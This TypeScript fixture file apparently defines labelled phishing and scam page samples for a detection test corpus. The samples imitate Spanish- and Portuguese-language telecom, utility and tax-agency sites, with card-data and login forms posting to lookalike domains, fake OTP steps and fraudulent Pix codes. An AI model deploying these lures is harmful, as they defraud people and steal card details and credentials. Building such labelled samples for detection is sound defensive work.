import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, exfil, jsonRoute, jsRoute, okRoute, pngRoute } from '../parts/zd-kit.js';

/**
 * Telecom, utility, government-service and parcel kits: unpaid-bill and refund lures from telcos and
 * power companies, tax-agency refunds and "buzón" notices, traffic fines, benefits, and parcel customs
 * fees, all ending at a card or bank form.
 */

const cardForm = (id: string, btn: string, lang: 'es' | 'pt' = 'es') => `<form id="${id}">
<label>${lang === 'es' ? 'Nombre del titular' : 'Nome do titular'}</label><input name="titular" required>
<label>${lang === 'es' ? 'Número de tarjeta' : 'Número do cartão'}</label><input name="cc" maxlength="19" inputmode="numeric" required>
<div style="display:flex;gap:10px"><div style="flex:1"><label>${lang === 'es' ? 'Caducidad' : 'Validade'}</label><input name="exp" placeholder="MM/AA" required></div><div style="flex:1"><label>CVV</label><input name="cvv" maxlength="4" required></div></div>
<button>${btn}</button><p id="wait" style="display:none">${lang === 'es' ? 'Procesando pago…' : 'Processando pagamento…'}</p></form>`;

const baseCss = (c: string) => `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f3f4f6;color:#222}.h{background:${c};color:#fff;padding:16px 30px;font-size:22px;font-weight:bold}
.c{max-width:460px;margin:30px auto;background:#fff;padding:26px;border-radius:6px;box-shadow:0 1px 4px #0002}label{display:block;font-size:13px;margin-top:10px}
input,select{width:100%;padding:11px;margin:4px 0 8px;border:1px solid #bbb;border-radius:4px;box-sizing:border-box}button{width:100%;padding:13px;background:${c};color:#fff;border:0;border-radius:4px;margin-top:12px;font-size:15px}
table{width:100%;font-size:14px;border-collapse:collapse}td{padding:6px;border-bottom:1px solid #eee}.f{font-size:11px;color:#888;text-align:center;margin:20px}`;

export const entries: Entry[] = [
  {
    id: 'zd-bill-telcel-saldo-pendiente',
    label: 'phishing',
    kind: 'telecom-bill-kit',
    url: 'https://mitelcel-pagos.servicio-linea.mx/pago/',
    body: doc({
      lang: 'es-MX',
      title: 'Mi Telcel | Pago de factura',
      css: baseCss('#0a2d83'),
      body: `<div class="h">Telcel</div><div class="c"><h3>Su línea será suspendida</h3><p>Estimado cliente, su factura del periodo octubre presenta un <b>saldo vencido</b>. Evite la suspensión del servicio y el cargo por reconexión realizando su pago hoy.</p>
<table><tr><td>Línea</td><td>55 •••• 8823</td></tr><tr><td>Saldo</td><td><b>$389.00 MXN</b></td></tr><tr><td>Fecha límite</td><td id="fl"></td></tr></table>
${cardForm('tc', 'Pagar $389.00')}</div><div class="f">Radiomóvil Dipsa, S.A. de C.V. Todos los derechos reservados.</div>
<script>document.getElementById('fl').textContent=new Date().toLocaleDateString('es-MX')</script>
${exfil({ form: '#tc', endpoint: '/pago/api.php', next: '/pago/3ds.html', mode: 'form' })}`,
    }),
    routes: {
      'mitelcel-pagos.servicio-linea.mx/pago/api.php': okRoute(),
      'mitelcel-pagos.servicio-linea.mx/pago/3ds.html': htmlRoute(doc({ lang: 'es', title: 'Verificación 3D Secure', body: `<div style="max-width:400px;margin:40px auto;font-family:Arial;border:1px solid #ccc;padding:20px"><h3>Verified by Visa / Mastercard ID Check</h3><p>Introduzca el código enviado por su banco.</p><input maxlength="8" style="width:100%;padding:10px"><button style="margin-top:10px;padding:10px 30px">Enviar</button></div>` })),
    },
  },
  {
    id: 'zd-bill-vivo-fatura-desconto',
    label: 'scam',
    kind: 'bill-pix-fee',
    url: 'https://meuvivo-fatura.desconto-quitacao.com/fatura',
    body: doc({
      lang: 'pt-BR',
      title: 'Meu Vivo - 2ª via de fatura',
      css: baseCss('#660099'),
      body: `<div class="h">vivo</div><div class="c"><h3>Fatura em aberto com 70% de desconto</h3><p>Quite sua fatura em atraso com desconto especial do Feirão Limpa Nome Vivo. Pagamento via Pix com baixa imediata.</p>
<form id="vv"><label>CPF do titular</label><input name="cpf"><label>Número da linha</label><input name="linha" placeholder="(11) 9XXXX-XXXX"><button>Consultar fatura</button></form>
<div id="res" style="display:none"><table><tr><td>Valor original</td><td><s>R$ 312,40</s></td></tr><tr><td>Com desconto</td><td><b>R$ 93,72</b></td></tr></table>
<p>Pix copia e cola:</p><textarea id="pix" rows="4" style="width:100%">00020126580014BR.GOV.BCB.PIX0136a8d1f3e2-91c4-4b7a-8e6d-1f2a3b4c5d6e520400005303986540593.725802BR5920QUITACAO DIGITAL LT6009SAO PAULO62070503***6304B1A2</textarea>
<button type="button" onclick="navigator.clipboard.writeText(document.getElementById('pix').value);this.textContent='Copiado!'">Copiar código Pix</button></div></div>
<div class="f">Telefônica Brasil S.A. · CNPJ 02.558.157/0001-62</div>
<script>document.getElementById('vv').onsubmit=function(e){e.preventDefault();fetch('/fatura/consulta',{method:'POST',body:new FormData(this)});this.style.display='none';document.getElementById('res').style.display='block'}</script>`,
    }),
    routes: { 'meuvivo-fatura.desconto-quitacao.com/fatura/consulta': okRoute() },
  },
  {
    id: 'zd-bill-iberdrola-corte-suministro',
    label: 'phishing',
    kind: 'utility-bill-kit',
    url: 'https://iberdrola-clientes.aviso-corte.com/factura/pendiente',
    body: doc({
      lang: 'es',
      title: 'Iberdrola Clientes | Aviso de corte de suministro',
      css: baseCss('#00a443'),
      body: `<div class="h">iberdrola</div><div class="c"><h3>Aviso de corte de suministro eléctrico</h3><p>Le informamos que su factura de luz con nº <b>21250918447</b> no ha podido ser cobrada por su entidad bancaria. Si no regulariza el pago en <b>24 horas</b> se procederá a la <b>suspensión del suministro</b> conforme al RD 897/2017.</p>
<table><tr><td>CUPS</td><td>ES0021000012••••••RQ0F</td></tr><tr><td>Importe</td><td><b>63,18 €</b></td></tr></table>${cardForm('ib', 'Pagar factura')}</div>
<div class="f">Iberdrola Clientes, S.A.U. · Plaza Euskadi 5, 48009 Bilbao</div>
${exfil({ form: '#ib', endpoint: 'https://iberdrola-clientes.aviso-corte.com/factura/pay', next: 'https://iberdrola-clientes.aviso-corte.com/factura/otp' })}`,
    }),
    routes: {
      'iberdrola-clientes.aviso-corte.com/factura/pay': okRoute(),
      'iberdrola-clientes.aviso-corte.com/factura/otp': htmlRoute(doc({ lang: 'es', title: 'Verificación', body: `<div style="max-width:400px;margin:40px auto;font-family:Arial"><h3>Confirme el pago</h3><p>Su banco le ha enviado un código por SMS.</p><input maxlength="8" style="width:100%;padding:10px"><button style="margin-top:10px;padding:10px 30px;background:#00a443;color:#fff;border:0">Confirmar</button></div>` })),
    },
  },
  {
    id: 'zd-bill-edp-reembolso',
    label: 'phishing',
    kind: 'utility-bill-kit',
    url: 'https://edp-clientes.reembolso-energia.pt/reembolso',
    body: doc({
      lang: 'pt-PT',
      title: 'EDP Comercial - Reembolso',
      css: baseCss('#e2231a'),
      body: `<div class="h">edp</div><div class="c"><h3>Reembolso de energia</h3><p>Caro cliente, no âmbito da revisão tarifária da ERSE tem direito a um reembolso de <b>78,40 €</b> relativo às faturas de 2024. Preencha os dados do cartão onde pretende receber o valor.</p>
${cardForm('edp', 'Receber reembolso', 'pt')}<p style="font-size:12px">NIF do titular: <input name="nif" form="edp" style="width:140px"></p></div>
<div class="f">EDP Comercial – Comercialização de Energia, S.A.</div>
${exfil({ form: '#edp', endpoint: '/reembolso/e.php', next: 'https://www.edp.pt/', mode: 'form' })}`,
    }),
    routes: { 'edp-clientes.reembolso-energia.pt/reembolso/e.php': okRoute() },
  },
  {
    id: 'zd-bill-enel-cl-corte',
    label: 'phishing',
    kind: 'utility-bill-kit',
    url: 'https://enel-cl.pagos-boleta.com/',
    routes: {
      'enel-cl.pagos-boleta.com/': htmlRoute(doc({
        lang: 'es-CL',
        title: 'Enel Clientes Chile',
        css: baseCss('#0555fa'),
        body: `<div class="h">enel</div><div class="c"><h3>Boleta impaga – corte programado</h3><p>Su número de cliente registra deuda vencida. El corte de suministro está programado para mañana entre 09:00 y 18:00 hrs.</p>
<form id="q"><label>Número de cliente</label><input name="cliente"><label>RUT</label><input name="rut"><button>Consultar deuda</button></form></div>
<script>document.getElementById('q').onsubmit=function(e){e.preventDefault();location.href='/pago?c='+encodeURIComponent(this.cliente.value)}</script>`,
      })),
      'enel-cl.pagos-boleta.com/pago': htmlRoute(doc({
        lang: 'es-CL',
        title: 'Enel - Pagar',
        css: baseCss('#0555fa'),
        body: `<div class="h">enel</div><div class="c"><p>Deuda total: <b>$48.920</b></p><p>Seleccione su banco para pagar con transferencia o ingrese su tarjeta:</p>${cardForm('ep', 'Pagar ahora')}</div>
${exfil({ form: '#ep', endpoint: '/pago/go', next: 'https://www.enel.cl/' })}`,
      })),
      'enel-cl.pagos-boleta.com/pago/go': okRoute(),
    },
  },
  {
    id: 'zd-gov-receita-cpf-irregular',
    label: 'scam',
    kind: 'gov-pix-fee',
    url: 'https://receita-federal.regularize-cpf.com/consulta',
    body: doc({
      lang: 'pt-BR',
      title: 'Receita Federal - Regularização de CPF',
      css: baseCss('#1351b4'),
      body: `<div class="h">gov.br · Receita Federal</div><div class="c"><h3>Seu CPF está IRREGULAR</h3><p style="color:#b00">Pendência identificada na Declaração do Imposto de Renda. O CPF será <b>cancelado</b> em 48 horas, bloqueando contas bancárias, Pix e benefícios.</p>
<form id="rf"><label>CPF</label><input name="cpf" maxlength="14"><label>Nome completo</label><input name="nome"><label>Data de nascimento</label><input name="nasc"><button>Consultar situação</button></form>
<div id="r" style="display:none"><table><tr><td>DARF – Multa por atraso</td><td><b>R$ 164,98</b></td></tr></table><p>Pague via Pix para regularizar imediatamente:</p><img id="qr" src="/consulta/qr.png" width="160" height="160" alt="QR Pix"><p><code>00020126360014br.gov.bcb.pix0114+55119487320155204000053039865406164.985802BR5925REGULARIZA DOC DIGITAL ME6009SAO PAULO6304A1F3</code></p></div></div>
<div class="f">Ministério da Fazenda · Receita Federal do Brasil</div>
<script>document.getElementById('rf').onsubmit=function(e){e.preventDefault();fetch('/consulta/cpf',{method:'POST',body:new FormData(this)});this.style.display='none';document.getElementById('r').style.display='block'}</script>`,
    }),
    routes: {
      'receita-federal.regularize-cpf.com/consulta/cpf': okRoute(),
      'receita-federal.regularize-cpf.com/consulta/qr.png': pngRoute(0, 0, 0),
    },
  },
  {
    id: 'zd-gov-sunat-multa-pe',
    label: 'phishing',
    kind: 'gov-tax-kit',
    url: 'https://sunat-gob-pe.buzon-electronico.online/sol/',
    body: doc({
      lang: 'es-PE',
      title: 'SUNAT - Operaciones en Línea',
      css: baseCss('#1f4e8c'),
      body: `<div class="h">SUNAT · SOL</div><div class="c"><h3>Buzón Electrónico: Resolución de Multa</h3><p>Se ha emitido una Resolución de Multa por omisión en la presentación del PDT 621. Ingrese para visualizar y fraccionar.</p>
<form id="su"><label>RUC</label><input name="ruc" maxlength="11"><label>Usuario SOL</label><input name="usuario"><label>Clave SOL</label><input name="clave" type="password"><button>Iniciar sesión</button><p id="wait" style="display:none">Ingresando…</p></form></div>
<div class="f">Superintendencia Nacional de Aduanas y de Administración Tributaria</div>
${exfil({ form: '#su', endpoint: 'https://sunat-gob-pe.buzon-electronico.online/sol/x', next: 'https://www.sunat.gob.pe/' })}`,
    }),
    routes: { 'sunat-gob-pe.buzon-electronico.online/sol/x': okRoute() },
  },
];
